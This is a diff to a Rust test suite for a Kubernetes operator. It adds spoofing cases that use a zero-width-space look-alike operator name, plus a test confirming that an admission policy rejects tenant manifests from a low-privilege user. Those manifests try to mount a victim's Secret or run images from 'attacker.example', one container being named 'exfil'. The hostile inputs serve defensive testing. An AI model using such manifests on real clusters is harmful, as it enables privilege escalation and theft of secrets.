@@ -2411,6 +2411,17 @@ async fn a_budget_gives_the_tenant_leave_to_write_its_own_status_and_no_more() {
             with(json!({"regarding": {"name": "acme"}, "reportingController": "kubelet"})),
         ),
         (
+            "a look-alike reporter",
+            with(
+                json!({"regarding": {"kind": "Deployment", "apiVersion": "apps/v1"},
+                        "reportingController": "bin\u{200b}dery-operator"}),
+            ),
+        ),
+        (
+            "a kind kubectl still matches",
+            with(json!({"regarding": {"kind": "AgentTenant.bindery.dev", "apiVersion": null}})),
+        ),
+        (
             "own tenant, the operator as source",
             with(json!({"regarding": {"name": "acme"},
                         "deprecatedSource": {"component": "bindery-operator"}})),
@@ -2533,6 +2544,86 @@ async fn an_object_of_a_tenants_name_that_is_not_its_own_is_never_taken_over() {
             }
         })
         .await;
+    let _: Deployment = cluster.wait_object("acme").await;
+    cluster.assert_operator_refused_nothing();
+}
+
+/// Found by the attacker's second review: a user allowed to create
+/// AgentTenants and nothing else had the operator run any image and mount
+/// any Secret of the namespace. The chart's admission policy asks the API
+/// server's authorizer, as the author: an AgentTenant may name only
+/// Secrets and ConfigMaps its author may read, and set the image or pod
+/// overrides only if its author may create pods.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agenttenant_asks_no_more_than_its_author_may_do() {
+    let cluster = Cluster::start("tenant-authors").await;
+    for file in &EXAMPLES[..3] {
+        cluster.kubectl(&["apply", "-f", &repo(file)]);
+    }
+    // mallory may write AgentTenants, and read the tools ConfigMap and the
+    // one Secret her tenant names; nothing else.
+    cluster.apply(&format!(
+        r#"apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {{name: tenant-author}}
+rules:
+  - {{apiGroups: [bindery.dev], resources: [agenttenants], verbs: [get, list, create, patch, update]}}
+  - {{apiGroups: [""], resources: [configmaps], resourceNames: [invoices-tools], verbs: [get]}}
+  - {{apiGroups: [""], resources: [secrets], resourceNames: [acme-billing], verbs: [get]}}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {{name: tenant-author}}
+roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: tenant-author}}
+subjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}}]
+"#
+    ));
+    let as_mallory = |manifest: &str| {
+        let path = cluster
+            .dir
+            .path()
+            .join(format!("mallory-{}.yaml", manifest.len()));
+        std::fs::write(&path, manifest).unwrap();
+        cluster.try_kubectl(&["--as", "mallory", "apply", "-f", path.to_str().unwrap()])
+    };
+    let tenant = read_repo("examples/k8s/tenant.yaml");
+    // The policy is in force once the API server has loaded it.
+    let evil = tenant.replace(
+        "  tools:\n",
+        "  ownerTokenSecretRef: {name: victim-owner-token, key: token}\n  tools:\n",
+    );
+    cluster
+        .wait("the tenants policy to refuse", async || {
+            let out = as_mallory(&evil);
+            let err = String::from_utf8_lossy(&out.stderr).to_string();
+            if !out.status.success() && err.contains("names a Secret its author may not read") {
+                Ok(())
+            } else {
+                Err(format!("{:?} {err}", out.status))
+            }
+        })
+        .await;
+    let pod_level = tenant.replace(
+        "  tools:\n",
+        "  podOverrides:\n    containers: [{name: exfil, image: attacker.example/exfil:1}]\n  tools:\n",
+    );
+    let out = as_mallory(&pod_level);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{err}");
+    assert!(err.contains("only someone who may create pods"), "{err}");
+    let image = tenant.replace(
+        "  tools:\n",
+        "  image: attacker.example/sidecar:1\n  tools:\n",
+    );
+    assert!(!as_mallory(&image).status.success());
+    // What she may read and nothing more: admitted, and deployed.
+    let out = as_mallory(&tenant);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let _operator = Operator::start(&cluster, "main", &[], &[]);
     let _: Deployment = cluster.wait_object("acme").await;
     cluster.assert_operator_refused_nothing();
 }
